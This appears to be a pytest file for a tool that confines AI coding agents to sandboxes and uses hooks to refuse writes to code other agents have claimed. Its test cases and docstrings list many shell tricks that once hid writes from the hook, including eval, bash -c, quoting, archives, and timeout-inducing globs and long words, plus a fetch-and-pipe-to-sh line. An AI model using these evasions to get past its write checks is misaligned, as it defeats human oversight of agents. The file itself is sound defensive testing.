def test_hook_uninstall_gives_ones_own_checkout_back_as_it_was(billing: Path, ws: Workspace) -> None:
    mine = {"model": "opus", "hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command",
                                                                                      "command": "audit-bash"}]}]}}
    (billing / ".claude").mkdir()
    (billing / ".claude/settings.json").write_text(json.dumps(mine))
    assert run_cli(billing, "hook", "install").returncode == 0
    assert "?? .claude/" not in git(billing, "status", "--porcelain")  # hidden while installed
    undone = run_cli(billing, "hook", "uninstall", "--json")
    assert undone.returncode == 0, undone.stderr
    assert json.loads(undone.stdout)["undone"][0] == ".claude/settings.json: loomtui's hooks removed"
    assert json.loads((billing / ".claude/settings.json").read_text()) == mine
    assert git(billing, "config", "--worktree", "--list") == ""
    assert "?? .claude/" in git(billing, "status", "--porcelain")  # the person's own file, seen again
    assert run_cli(billing, "hook", "uninstall").stdout.startswith("no loomtui hooks installed")
    (billing / ".claude/settings.json").unlink()  # made by install alone: uninstall takes it away
    assert run_cli(billing, "hook", "install").returncode == 0
    assert run_cli(billing, "hook", "uninstall").returncode == 0 and not (billing / ".claude").exists()
    record = tasks.create_sandbox(ws, "a sandbox", "script", script=_script(billing), isolate=False)
    refused = run_cli(Path(record.worktree), "hook", "uninstall")
    assert refused.returncode == 2 and "is a sandbox's worktree" in refused.stderr


def test_work_that_cannot_be_saved_fails_the_sandbox_saying_why(billing: Path, ws: Workspace) -> None:
    """Its branch deleted under it (an agent outside isolation can), the leftover work has nowhere to
    go: the sandbox fails naming that, not "ended without a change"."""
    from loomtui.workflow.steps import next_step

    record = tasks.create_sandbox(ws, "lose the branch", "command", isolate=False, command=[
        "sh", "-c", "echo lost > LOST.md && git update-ref -d refs/heads/$(git symbolic-ref --short HEAD)"])
    ended = agent_ended(ws, tasks.start(ws, record.id).id)
    assert ended.status == "failed", ended.data
    assert "could not be saved" in ended.data["error"] and "does not exist" in ended.data["error"]
    assert (Path(record.worktree) / "LOST.md").read_text() == "lost\n"  # still there, for a person
    assert "could not be saved" in next_step(ws, ended).line()


def test_merge_refuses_settings_it_cannot_read() -> None:
    with pytest.raises(LoomError, match="'hooks' is not an object"):
        merge_settings({"hooks": []})
    stop = [{"hooks": [{"type": "command", "command": "notify"}]}]
    kept = merge_settings({"hooks": {"Stop": stop}, "env": {"A": "1"}})
    assert kept["env"] == {"A": "1"} and kept["hooks"]["Stop"][0]["hooks"][0]["command"] == "notify"


def test_git_pre_commit_refuses_another_sandboxs_region_and_allows_its_own(billing: Path, ws: Workspace) -> None:
    record = tasks.create_sandbox(ws, "edit customers", "script", script=_script(billing), isolate=False,
                               claims=[f"{SERVICE}::CustomerService.get"])
    tree = Path(record.worktree)
    governed_coordinator(ws).claim("other-agent", f"{SERVICE}::CustomerService.find_by_email")
    service = tree / SERVICE
    env = clean_env()

    service.write_text(service.read_text().replace(GET_LINE, GET_LINE.replace("customer_id)", "customer_id.strip())")))
    git(tree, "add", "-A")
    own = subprocess.run(["git", "commit", "-qm", "inside my claim"], cwd=tree, env=env, capture_output=True, text=True)
    assert own.returncode == 0, own.stderr

    service.write_text(service.read_text().replace(FIND_LINE, FIND_LINE.replace("lower()", "casefold()")))
    git(tree, "add", "-A")
    theirs = subprocess.run(["git", "commit", "-qm", "in their claim"], cwd=tree, env=env, capture_output=True,
                            text=True)
    assert theirs.returncode == 1
    assert theirs.stderr.startswith("loomtui: commit refused: ") and theirs.stderr.count("\n") == 1
    assert "held by sandbox other-agent" in theirs.stderr
    assert git(tree, "log", "-1", "--format=%s") == "inside my claim"


def test_a_sandboxs_commits_hold_the_code_they_changed_so_another_agents_edit_there_is_refused(
        billing: Path, ws: Workspace) -> None:
    """Codex and Aider write without asking: their commits claimed nothing, so another sandbox could claim and
    edit the same method with no word until the merge conflicted. The commits on its branch (read from git,
    as the supervisor's beat sees the branch move) now hold what they changed."""
    record = tasks.create_sandbox(ws, "edit customers", "script", script=_script(billing), isolate=False)
    tree = Path(record.worktree)
    base = git(tree, "rev-parse", "HEAD")
    service = tree / SERVICE
    service.write_text(service.read_text().replace(GET_LINE, GET_LINE.replace("customer_id)", "customer_id.strip())")))
    (tree / "NOTES.txt").write_text("why\n")
    git(tree, "add", "-A")
    done = subprocess.run(["git", "commit", "-qm", "unclaimed work"], cwd=tree, env=clean_env(), capture_output=True,
                          text=True)
    assert done.returncode == 0, done.stderr
    assert ws.store.live_claims(record.id) == []  # the hook's request is the agent's word: it claims nothing
    gate = HookGate(ws, record.id, billing)
    tip = git(tree, "rev-parse", "HEAD")
    gate.hold_commits(base, tip)
    # The method, by its own name; not NOTES.txt, which coordination does not cover (a .gitignore every
    # agent touches held by one of them made the others take turns).
    assert [c.target for c in ws.store.live_claims(record.id)] == [f"{SERVICE}::CustomerService.get"]
    reasons = [e.details["reason"] for e in ws.audit.entries() if e.action == "claim.added"]
    assert reasons == [f"claimed by commit of {SERVICE}"]
    # Another agent's edit of that method is refused before it is written, naming who holds it.
    number = (billing / SERVICE).read_text().splitlines(keepends=True).index(GET_LINE) + 1
    refused = HookGate(ws, "agent-2", billing).check_tool(
        "Edit", [{"path": str(billing / SERVICE), "lines": [[number, number]]}])
    assert refused.decision == "deny" and f"held by sandbox {record.id}" in refused.reason
    # A later commit of the same method holds nothing more; one of a method another sandbox holds leaves it
    # to that sandbox (its review says so), and the rest is held.
    governed_coordinator(ws).claim("other-agent", f"{SERVICE}::CustomerService.find_by_email")
    service.write_text(service.read_text().replace(".strip())", ".strip().lower())")
                       .replace(FIND_LINE, FIND_LINE.replace("lower()", "casefold()")) + "\n\ndef extra():\n    pass\n")
    git(tree, "commit", "-qam", "more", "--no-verify")
    gate.hold_commits(tip, git(tree, "rev-parse", "HEAD"))
    assert sorted(c.target for c in ws.store.live_claims(record.id)) == [f"{SERVICE}::CustomerService.get",
                                                                         f"{SERVICE}::extra"]


def test_only_a_sandboxs_own_commits_hold_code_and_a_merge_is_checked_against_its_target(
        billing: Path, ws: Workspace) -> None:
    """A person's commit outside any sandbox ("-") or in their own checkout holds nothing; a merge's commit
    resolving a conflict is checked for what it changes of the target merged in (it was refused over another
    sandbox's claim on code only the target had changed), and holds none of the target's changes."""
    old = (billing / SERVICE).read_text()
    change = [{"path": SERVICE, "old": old, "new": old.replace(GET_LINE, GET_LINE.replace("(", "( "))}]
    for person in (NO_SANDBOX, "local-1a2b3c4d"):
        answer = HookGate(ws, person, billing).check_commit([SERVICE], [], change)
        assert answer.decision == "allow", answer.reason
        assert HookGate(ws, person, billing).hold_commits("HEAD~1", "HEAD") == []
    assert ws.store.live_claims() == []
    record = tasks.create_sandbox(ws, "edit customers", "script", script=_script(billing), isolate=False)
    tree = Path(record.worktree)
    base = git(tree, "rev-parse", "HEAD")
    (billing / "README.md").write_text("main moves\n")
    git(billing, "commit", "-qam", "main moves")
    governed_coordinator(ws).claim("other-agent", "README.md", new_file=True)
    git(tree, "merge", "-q", "--no-ff", "--no-commit", "main")
    assert staged_request(tree) is None  # nothing of its own: README.md is the target's change
    (tree / SERVICE).write_text(change[0]["new"])
    git(tree, "add", SERVICE)
    assert staged_request(tree)["paths"] == [SERVICE]  # type: ignore[index]
    done = subprocess.run(["git", "commit", "-qm", "merge main"], cwd=tree, env=clean_env(), capture_output=True,
                          text=True)
    assert done.returncode == 0, done.stderr
    HookGate(ws, record.id, billing).hold_commits(base, git(tree, "rev-parse", "HEAD"))
    assert [c.target for c in ws.store.live_claims(record.id)] == []  # a merge commit: its own line holds none


def test_the_repositorys_own_hooks_still_run_after_loomtuis(billing: Path, ws: Workspace,
                                                            monkeypatch: pytest.MonkeyPatch) -> None:
    """A sandbox's worktree points core.hooksPath at loomtui's hooks, which hand on to the hooks the
    repository had: <common dir>/hooks, or the core.hooksPath of its shared config, else the user's."""
    record = tasks.create_sandbox(ws, "edit", "script", script=_script(billing), isolate=False)
    tree = Path(record.worktree)
    marks = billing.parent / "marks"

    def own_hook(folder: Path, name: str) -> None:
        folder.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(f'#!/bin/sh\necho "{folder.name} $(basename "$0") $#" >> {marks}\n')
        (folder / name).chmod(0o755)

    own_hook(billing / ".git" / "hooks", "commit-msg")
    own_hook(billing / ".git" / "hooks", "pre-commit")
    (tree / "notes.txt").write_text("one\n")
    git(tree, "add", "-A")
    git(tree, "commit", "-qm", "one")
    assert marks.read_text().splitlines() == ["hooks pre-commit 0", "hooks commit-msg 1"]

    own_hook(billing / "team-hooks", "post-commit")
    git(billing, "config", "core.hooksPath", str(billing / "team-hooks"))
    (tree / "notes.txt").write_text("two\n")
    git(tree, "commit", "-qam", "two")
    assert marks.read_text().splitlines()[2:] == ["team-hooks post-commit 0"]

    # The user's own hooks dir (global config) when the repository sets none; the repository's wins.
    own_hook(billing / "my-hooks", "post-commit")
    user_config = billing.parent / "user.gitconfig"
    user_config.write_text(f"[core]\n\thooksPath = {billing / 'my-hooks'}\n")
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(user_config))
    (tree / "notes.txt").write_text("three\n")
    git(tree, "commit", "-qam", "three")
    git(billing, "config", "--unset", "core.hooksPath")
    (tree / "notes.txt").write_text("four\n")
    git(tree, "commit", "-qam", "four")
    assert marks.read_text().splitlines()[3:] == ["team-hooks post-commit 0", "my-hooks post-commit 0"]


def test_loomtuis_files_are_ignored_in_the_sandbox_only_and_the_users_excludes_carry_over(
        billing: Path, ws: Workspace, monkeypatch: pytest.MonkeyPatch) -> None:
    user_ignore = billing.parent / "global-ignore"
    user_ignore.write_text("*.log\n")
    user_config = billing.parent / "user.gitconfig"
    user_config.write_text(f"[core]\n\texcludesFile = {user_ignore}\n")
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(user_config))
    record = tasks.create_sandbox(ws, "edit", "script", script=_script(billing), isolate=False)
    tree = Path(record.worktree)
    (tree / "debug.log").write_text("x\n")
    # loomtui's settings and context (its exclude file) and the user's *.log (carried over) are all ignored.
    assert (tree / SETTINGS_PATH).is_file() and git(tree, "status", "--porcelain") == ""
    excludes = git(tree, "config", "--worktree", "--get-all", "core.excludesFile")
    assert excludes.endswith("loom-exclude") and "\n" not in excludes
    install_hooks(ws, tree, record.id)  # again: nothing more is set
    assert git(tree, "config", "--worktree", "--get-all", "core.excludesFile") == excludes
    (billing / SETTINGS_PATH).parent.mkdir(exist_ok=True)
    (billing / SETTINGS_PATH).write_text("{}\n")
    # Only in the sandbox: the main checkout still sees a settings file of its own.
    assert git(billing, "status", "--porcelain", "--untracked-files=all") == f"?? {SETTINGS_PATH}"


def _script(repo: Path) -> Path:
    path = repo.parent / "idle.yaml"
    path.write_text("- {log: idle}\n")
    return path


# -- the pieces ----------------------------------------------------------------------------------


def test_changed_ranges_are_lines_of_the_current_file() -> None:
    before = "".join(f"line {n}\n" for n in range(1, 11))
    assert changed_ranges(before, before.replace("line 3\n", "LINE 3\n")) == [(3, 3)]
    assert changed_ranges(before, before.replace("line 3\n", "").replace("line 9\n", "nine\n")) == [(3, 3), (9, 9)]
    assert changed_ranges(before, before + "line 11\n") == [(10, 10)]  # an append touches the last line
    assert changed_ranges(before, before.replace("line 5\n", "line 5\nnew\n")) == [(5, 6)]


@pytest.mark.parametrize(("command", "written"), [
    ("echo hi > a.txt; cat a.txt >> b.txt 2>/dev/null", ["a.txt", "b.txt"]),
    ("make 2>&1 | tee -a build.log", ["build.log"]),
    ("sed -i.bak -e 's/a/b/' x.py y.py && sed 's/a/b/' z.py", ["x.py", "y.py"]),
    ("perl -pi -e 's/a/b/' m.pl", ["m.pl"]),
    ("cp -r src/a.py src/b.py dest/ && mv old.py new.py", ["dest/a.py", "dest/b.py", "old.py", "new.py"]),
    ("touch -d yesterday stamp && rm -f junk.tmp", ["stamp", "junk.tmp"]),
    ("cat <<'EOF' > gen.py\nprint('>> not a file')\nEOF\n", ["gen.py"]),
    ("FOO=1 sudo tee /etc/hosts < hosts.new", ["/etc/hosts"]),
    ("cd docs && echo x > notes.md", ["docs/notes.md"]),
    ("echo $X > \"$OUT\"; grep -r x . > /dev/null; ls -la", []),
    # What bash makes of a word before it runs anything: each of these wrote the held file unseen.
    ("echo x >> $'pay\\x6dents/tax.py'", ["payments/tax.py"]),  # ANSI-C quoting
    ("echo x >> payments/ta\\\nx.py", ["payments/tax.py"]),  # a line continuation
    ("echo x | tee -a payments/ta{x,_old}.py", ["payments/tax.py", "payments/ta_old.py"]),  # braces
    ("cat <<EOF\n$(echo x >> payments/tax.py)\nEOF\n", ["payments/tax.py"]),  # runs in an unquoted body
    ("cat <<'EOF'\n$(echo x >> payments/tax.py)\nEOF\n", []),  # a quoted one's is text
    # And each of these went through unseen as well (wrappers, keywords, forms of a word or a redirection).
    ("timeout 5 sed -i s/a/b/ payments/tax.py", ["payments/tax.py"]),
    ("nice -n 5 sed -i s/a/b/ payments/tax.py", ["payments/tax.py"]),
    ("env -u HOME sed -i s/a/b/ payments/tax.py", ["payments/tax.py"]),
    ("if true; then sed -i s/a/b/ payments/tax.py; fi", ["payments/tax.py"]),
    ("! sed -i s/a/b/ payments/tax.py", ["payments/tax.py"]),
    ("{ sed -i s/a/b/ payments/tax.py; }", ["payments/tax.py"]),
    ("echo x 1<>payments/tax.py", ["payments/tax.py"]),
    ('echo x >> $"payments/tax.py"', ["payments/tax.py"]),  # a locale string
    ("tee -a payments/ta{x..x}.py", ["payments/tax.py"]),  # a sequence
    ("cp -tpayments /tmp/tax.py", ["payments/tax.py"]),  # an option's value attached
    ("echo x >> payments/tax.py # it's fine", ["payments/tax.py"]),  # a quote in a comment is no open quote
    ('git commit -m "use << for it"', []),  # one line: no here-document text taken from it
    # Programs writing the file an option or their second operand names: each went through unseen.
    ("sort -o payments/tax.py README.md && sort -opayments/a.py x", ["payments/tax.py", "payments/a.py"]),
    ("uniq README.md payments/tax.py; uniq -f 1 README.md", ["payments/tax.py"]),
    ("xxd -c 8 README.md payments/tax.py", ["payments/tax.py"]),
    ("git diff --output=payments/tax.py HEAD", ["payments/tax.py"]),
    ("git mv payments/tax.py secrets/tax.py && git rm -q old.py", ["payments/tax.py", "secrets/tax.py", "old.py"]),
    ("git -C sub rm x.py; git -c a.b=c mv c.py d.py", ["sub/x.py", "c.py", "d.py"]),  # its own options first
    ("sort -uo f.py x; curl -sSo g.py http://127.0.0.1/; wget -qO h.py http://127.0.0.1/", ["f.py", "g.py", "h.py"]),
    # ... but a compiler's flags are no bundles, and `-` is stdout: none of these writes a file.
    ("gcc -Wall -fno-strict-aliasing -Igo/include -flto -lcrypto -c main.c; wget -qO- http://127.0.0.1/ | sh", []),
    ("find . -maxdepth 1 -name README.md -fprint payments/tax.py", ["payments/tax.py"]),
    ("curl -o payments/tax.py http://127.0.0.1/x && wget -O out.py http://127.0.0.1/y", ["payments/tax.py", "out.py"]),
    # A shell given its command as a string, and eval: its writes were not seen at all.
    ("bash -c 'echo hi > payments/tax.py'", ["payments/tax.py"]),
    ("sh -c \"sed -i s/a/b/ payments/tax.py\" && bash -lc 'cd sub && echo x >> y.py'", ["payments/tax.py", "sub/y.py"]),
    ("eval 'echo x >> payments/tax.py'; sudo bash -c \"bash -c 'tee -a a.py < b'\"", ["payments/tax.py", "a.py"]),
    ("bash script.sh -c 'echo x > not-run.py'; sh -- -c", []),  # a script's own arguments: not a command
    # A shell's options before -c (their values no script), + options, `-c --`, env -S: all went unseen.
    ("bash -o pipefail -c 'echo x > a.py'; bash -O extglob -c 'echo x > b.py'; bash +e -c 'echo x > c.py'",
     ["a.py", "b.py", "c.py"]),
    ("bash -c -- 'echo x > d.py'; bash --rcfile /dev/null -c 'echo x > e.py'; bash -c -e 'echo x > f.py'",
     ["d.py", "e.py", "f.py"]),
    ("env -S \"bash -c 'echo x > g.py'\"; env --split-string='tee h.py' < x", ["g.py", "h.py"]),
    ("sort x | sponge payments/tax.py; time -o timing.txt make", ["payments/tax.py", "timing.txt"]),
    # Each way into a folder: the write after `cd -- payments` or `pushd payments` was checked at the top.
    ("cd -- payments && sed -i s/a/b/ a.py; cd -P /tmp && echo x > b.py", ["payments/a.py", "/tmp/b.py"]),
    ("pushd payments && echo x > c.py; builtin cd sub; command cd x; echo y > d.py",
     ["payments/c.py", "payments/sub/x/d.py"]),
    ("cd payments && cd - && echo x > e.py", ["e.py"]), ("cd payments & echo x > f.py", ["f.py"]),  # back; a job
    ("(cd payments && echo x > g.py); echo y > h.py; (cd sub)&&(echo z > i.py)", ["payments/g.py", "h.py", "i.py"]),
    ("env -C payments sed -i s/a/b/ j.py > k.log; env --chdir=sub tee l.py; sudo -D payments touch m.py",
     ["k.log", "payments/j.py", "sub/l.py", "payments/m.py"]),
    ("popd; echo x > /tmp/abs.py", ["/tmp/abs.py"]),  # an absolute path is where it is, wherever the shell is
    # A cd in a pipeline or a job is a shell of its own; one in braces is the shell's; an absolute one is known.
    ("cd payments | true; echo x > n.py; true | cd payments; echo x > o.py", ["n.py", "o.py"]),
    ("{ cd payments; echo x > p.py; }; cd \"$X\"; cd /tmp; echo x > q.py", ["payments/p.py", "/tmp/q.py"]),
    ("make && cd payments && echo x > r.py", ["payments/r.py"]),  # the chain goes on only once it is there
    ("mkdir -p new && cd new && echo x > s.py", ["new/s.py"]),  # not there yet: the chain says it is by then
    ("pushd payments >/dev/null; make; popd >/dev/null; echo x > t.py", ["t.py"]),  # back where it was
    # An operator stuck to a redirection (shlex keeps a run of punctuation whole): the file went unseen.
    ("true;>u.py; true |>v.py; true &&>w.py echo EVIL", ["u.py", "v.py", "w.py"]),
    ("echo x > ~+/y.py; cd payments && ln -sf ../sub/z.py; cp --target-directory sub a.txt", [
        "y.py", "payments/z.py", "payments/sub/a.txt"]),
    ("coproc sed -i s/a/b/ b.py; wait", ["b.py"]),
    # Wrappers and programs naming the file they write that went unseen.
    ("doas -u root sed -i s/a/b/ a.py; flock /tmp/l sed -i s/a/b/ b.py; chronic tee c.py; unbuffer tee d.py",
     ["a.py", "b.py", "c.py", "d.py"]),
    ("busybox sed -i s/a/b/ e.py; iconv -t utf8 x -o f.py; strace -o g.log ls; openssl enc -in x -out h.bin",
     ["e.py", "f.py", "g.log", "h.bin"]),
    ("gunzip payments/i.py.gz; unxz j.py.xz; gunzip -c k.gz > l.py; gunzip -l m.gz", ["payments/i.py", "j.py", "l.py"]),
    # A command substitution inside double quotes runs as one outside them does: its writes went unseen.
    ('echo "$(echo x > a.py)" "b`tee b.py < x`c"; echo "$(echo "$(echo q > c.py)")"', ["a.py", "b.py", "c.py"]),
    ('x="$(cd payments && echo y > d.py)"; echo z > e.py', ["payments/d.py", "e.py"]),
    # A `cd` chain inside a subshell ends with it (the file after it was refused as in a folder not told).
    ("x=$(cd new && echo y > f.py); echo z > g.py", ["new/f.py", "g.py"]),
    ("echo '$(echo x > no.py)' \"\\$(echo x > no.py)\" \"$((1<<2))\"; git commit -m \"fix: $(date)\"", []),
    # The words after a substitution are the same command's (they were read as a command of their own).
    ('sed -i "s/old/$(cat VERSION)/" a.py; cp "$(ls notes.txt)" b.py; install -m 644 "$(ls x)" c.py',
     ["a.py", "b.py", "c.py"]),
    ('sed -i "s/a/`echo b`/g" d.py; perl -pi -e "s/a/$(cat x)/" e.py; sed -i s/old/$(cat V)/ f.py', [
        "d.py", "e.py", "f.py"]),
    ('cp $(echo x) g.py; ln -sf "$(pwd)/x" h.py', ["g.py", "h.py"]),
    ("git commit -m \"$(cat <<'EOF'\nFix it (it's \"quoted\")\nEOF\n)\"", []),  # how Claude Code commits
    ('echo "$(cat <<EOF\nbody\nEOF\necho x > i.py)"', ["i.py"]),
    # A substitution in a `bash -c "..."` string or an `eval` (an internal error refused them all).
    ('eval "$(ssh-agent -s)"; bash -c "echo $(date)"; sudo sh -c "echo $(whoami) >> j.log"', ["j.log"]),
    # A `)` that closes nothing (a case's pattern, a comment's), and a backquote's own escapes: writes missed.
    ('echo "$(case x in x) echo pwned > k.py;; esac)"; echo `echo "\\`echo x > l.py\\`"`', ["k.py", "l.py"]),
    ('echo "$(echo hi # )\necho x > m.py)"; cd sub && x=$(cd ..; case y in y) echo x > n.py;; esac)',
     ["m.py", "n.py"]),
])
def test_bash_write_targets_best_effort(tmp_path: Path, command: str, written: list[str]) -> None:
    (tmp_path / "payments" / "sub" / "x").mkdir(parents=True)  # a cd into a folder not there fails
    (tmp_path / "sub").mkdir()
    expected = [w if w.startswith("/") else str(tmp_path / w) for w in written]
    assert bash_write_targets(command, tmp_path) == expected


def test_the_files_a_patch_or_an_archive_writes_are_read_from_it(tmp_path: Path) -> None:
    """`git apply`, `patch`, `tar -x` and `unzip` wrote a held file with no file on their command line."""
    import tarfile
    import zipfile

    for folder in ("payments", "sub", ".git"):  # the top of a repository: git apply's paths are from there
        (tmp_path / folder).mkdir()
    git_diff = ("diff --git a/payments/tax.py b/payments/tax.py\n--- a/payments/tax.py\n+++ b/payments/tax.py\n"
                "@@ -1 +1 @@\n-x\n+y\ndiff --git a/old.py b/new.py\nsimilarity index 90%\nrename from old.py\n"
                "rename to new.py\ndiff --git a/gone.py b/gone.py\n--- a/gone.py\n+++ /dev/null\n"
                "diff --git \"a/t\\303\\251.py\" \"b/t\\303\\251.py\"\n--- \"a/t\\303\\251.py\"\n"
                "+++ \"b/t\\303\\251.py\"\n")
    (tmp_path / "fix.diff").write_text(git_diff)
    plain = "--- payments/tax.py.orig\t2026-12-01 10:00:00\n+++ payments/tax.py\t2026-12-01 10:01:00\n@@ -1 +1 @@\n"
    (tmp_path / "plain.diff").write_text(plain)
    with tarfile.open(tmp_path / "bundle.tgz", "w:gz") as tar:
        for name in ("payments/", "payments/tax.py", "./README.md"):
            info = tarfile.TarInfo(name)
            info.type = tarfile.DIRTYPE if name.endswith("/") else tarfile.REGTYPE
            tar.addfile(info, io.BytesIO(b""))
    with zipfile.ZipFile(tmp_path / "bundle.zip", "w") as bundle:
        bundle.writestr("payments/", "")
        bundle.writestr("payments/tax.py", "y\n")
    # A binary patch and a mode change have no ---/+++ lines: the header names the file.
    (tmp_path / "bin.diff").write_text("diff --git a/payments/tax.py b/payments/tax.py\nindex 1..2 100644\n"
                                       "GIT binary patch\nliteral 3\nKcmZ?\n\n")
    (tmp_path / "mode.diff").write_text("diff --git a/payments/tax.py b/payments/tax.py\nold mode 100644\n"
                                        "new mode 100755\n")
    patched = ["payments/tax.py", "old.py", "new.py", "gone.py", "té.py"]
    for command, written in (
            ("git apply fix.diff", patched),
            ("git apply --index -R fix.diff && git -C sub apply -p2 ../fix.diff", [
                *patched, "tax.py"]),  # -p2 strips payments/ too; from the top, not `sub`
            ("git apply --stat fix.diff; git apply --check fix.diff", []),  # they write nothing
            ("patch -p1 < fix.diff", patched),
            ("patch -i fix.diff; patch --strip=1 --input=fix.diff -d sub", [*patched, *(f"sub/{p}" for p in patched)]),
            ("patch < plain.diff", ["payments/tax.py.orig", "payments/tax.py"]),  # its folder exists: kept whole
            ("patch -p0 -o out.py < plain.diff; patch payments/tax.py plain.diff", ["out.py", "payments/tax.py"]),
            ("tar -xzf bundle.tgz; tar xzf bundle.tgz -C sub; tar --extract --file=bundle.tgz", [
                "payments/tax.py", "README.md", "sub/payments/tax.py", "sub/README.md"]),
            ("tar -tzf bundle.tgz; tar czf out.tgz payments", ["out.tgz"]),  # listing and making write no member
            ("unzip -o bundle.zip; unzip -q bundle.zip -d sub; unzip -l bundle.zip", [
                "payments/tax.py", "sub/payments/tax.py"]),
            # Each read as its program reads it (a review found each one read as another file, or none).
            ("git apply bin.diff; git apply mode.diff", ["payments/tax.py"]),
            ("git apply < plain.diff", ["tax.py.orig", "tax.py"]),  # -p1, as git applies any patch
            ("git apply -p 0 plain.diff", ["payments/tax.py.orig", "payments/tax.py"]),
            ("git apply --directory sub -p 1 plain.diff", ["sub/tax.py.orig", "sub/tax.py"]),
            ("patch -F 3 -p1 < fix.diff", patched), ("patch -p1 -i fix.diff -r x.rej", [*patched, "x.rej"]),
            ("tar -xzfbundle.tgz; unzip -dsub bundle", [
                "payments/tax.py", "README.md", "sub/payments/tax.py"]),
            ("tar -C sub -C ../payments -xzf bundle.tgz", ["payments/payments/tax.py", "payments/README.md"])):
        assert bash_write_targets(command, tmp_path) == [str(tmp_path / w) for w in written], command
    # What cannot be told is refused, never taken as writing nothing: piped or missing input, options that
    # rename what is written, an archive past what is read before a command runs.
    import bz2

    (tmp_path / "pad.tbz").write_bytes(bz2.compress(_tar_of({"zeros": b"\0" * (32 << 20), "payments/tax.py": b""})))
    for command, said in (("git diff | git apply -R", "standard input"), ("curl -s x | tar -xz", "standard input"),
                          ("patch -p1 < missing.diff", "cannot read before it runs"),
                          ("tar -xzf bundle.tgz --strip-components=1", "--strip-components"),
                          ("tar -xPzf bundle.tgz", "-P"), ("tar -xzf bundle.tgz --one-top-level=x", "--one-top-level"),
                          ("tar -xizf bundle.tgz", "-i"), ("unzip -j bundle.zip", "-j"),
                          ("tar -xjf pad.tbz", "more than loomtui reads")):
        with pytest.raises(CommandNotRead, match=re.escape(said)):
            bash_write_targets(command, tmp_path)
    # A FIFO named as the patch or archive held the hook (and the broker's only worker) for good.
    os.mkfifo(tmp_path / "p.diff")
    os.mkfifo(tmp_path / "a.tar")
    said: list[str] = []

    def read_fifos() -> None:
        for command in ("git apply p.diff", "patch -p1 < p.diff", "tar -xf a.tar", "unzip a.tar"):
            try:
                bash_write_targets(command, tmp_path)
            except CommandNotRead as refused:
                said.append(str(refused))

    reader = threading.Thread(target=read_fifos, daemon=True)
    reader.start()
    reader.join(20)
    assert not reader.is_alive() and len(said) == 4 and all("no regular file" in s for s in said), said


def _tar_of(files: dict[str, bytes]) -> bytes:
    import tarfile

    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


@pytest.mark.parametrize("command", [
    'echo "unterminated > x', "echo 'unbalanced > out.txt",
    "echo x >> payments/tax.py; echo \\",  # a trailing backslash
    "echo '<<EOF'\necho x >> payments/tax.py",  # a here-document in quotes, never ended: the rest taken as its text
    "cat <<E\\OF\nhi\nEOF\necho x >> payments/tax.py",  # one bash ends at EOF
    "tee " + " ".join(f"/tmp/f{n}" for n in range(60)) + "; echo x >> payments/tax.py",  # past the 50 checked
    "bash -c 'echo \"unterminated > x'",  # a string's own quotes, unbalanced
    functools.reduce(lambda inner, _: "sh -c " + shlex.quote(inner), range(6), "echo x > a.py"),  # too deep
    # A folder loomtui cannot tell, then a write in it: it was checked at the top of the tree.
    'cd "$dir" && echo x > a.py', "cd $(git rev-parse --show-toplevel)/payments; echo x > a.py", "cd; echo x > a",
    "CDPATH=/tmp cd payments && echo x > a.py", "popd && echo x > a.py", "cd - && echo x > a.py",
    # A cd that may not have run, a place in pushd's stack, CDPATH, a folder env -C takes from a variable.
    "false && cd docs; echo x > Makefile", "if true; then cd payments; fi; echo x > ledger.py",
    "pushd docs; pushd +1; echo x > Makefile", "pushd -n docs; echo x > Makefile", "cd nowhere || true; echo > a",
    "cd nowhere; sed -i s/a/b/ ledger.py", "cd payments docs; echo x > a.py",  # a cd that fails stays where it was
    "cd payments && echo x > ~-/ledger.py",  # the folder it was in before
    "CDPATH=payments; cd sub; echo x > ledger.py", "export CDPATH=/x; cd sub && echo > a",
    'env -C "$D" sed -i s/a/b/ ledger.py', 'cd "$X"; bash -c "echo > ledger.py"',
    # A file a command's output names: it was taken as a variable's, unseen.
    "echo x > payments/ledger.py$(true)", "echo x > `echo payments/ledger.py`", "sed -i s/a/b/ $(ls *.py)",
    'echo "$(echo x > ledger.py "', 'echo "`echo x > ledger.py"',  # a substitution in quotes that never closes
])
def test_a_command_whose_writes_cannot_be_told_is_not_read_as_writing_nothing(tmp_path: Path, command: str) -> None:
    """Each was read as writing no file (nothing claimed: no decision), and its write of a held file ran."""
    from loomtui.governance.hooks.bash import CommandNotRead

    with pytest.raises(CommandNotRead):
        bash_write_targets(command, tmp_path)


def test_a_glob_only_the_hook_would_expand_is_bounded(tmp_path: Path) -> None:
    """Quoted, bash never expands it; through ten links to `.` eight deep the hook read 10**8 names and was killed
    at its timeout, and Claude Code let the call through."""
    from loomtui.governance.hooks.bash import CommandNotRead

    loops = tmp_path / "lp"
    loops.mkdir()
    for n in range(10):
        (loops / f"l{n}").symlink_to(".")
    with pytest.raises(CommandNotRead, match="a glob in it reads more than"):
        bash_write_targets(f"true || tee '{loops}/*/*/*/*/*/*/*/*/nomatch'; echo x >> tax.py", tmp_path)


def test_a_command_too_long_to_read_in_time_is_refused_its_here_documents_read(tmp_path: Path) -> None:
    """shlex takes time quadratic in a word's length: a 1.6 MB base64 word kept the hook past its 60 s timeout,
    and Claude Code ran the write it hid unchecked. A here-document's text is not read word by word."""
    from loomtui.governance.hooks.bash import MAX_WORDS_CHARS, CommandNotRead

    word = "QUJD" * (MAX_WORDS_CHARS // 4)
    with pytest.raises(CommandNotRead, match=r"it is [\d,]+ characters long outside its here-documents"):
        bash_write_targets(f"echo {word} | base64 -d > payments/tax.py", tmp_path)
    with pytest.raises(CommandNotRead, match=r"characters long \(loomtui reads at most 4,194,304\)"):
        bash_write_targets("cat > a.py <<'EOF'\n" + "x = 1\n" * 800_000 + "EOF\n", tmp_path)
    body = "cat > a.py <<'EOF'\n" + "x = 1\n" * 100_000 + "EOF\n"  # 600 KB of it: read, its target said
    assert bash_write_targets(body, tmp_path) == [str(tmp_path / "a.py")]


def test_braces_are_expanded_a_group_at_a_time_within_the_cap(tmp_path: Path,
                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    """Six groups of fifty were made word by word first: 50**6 words, hours of the broker's only worker."""
    import loomtui.governance.hooks.bash as bash
    from loomtui.governance.hooks.edits import MAX_TARGETS

    made: list[str] = []
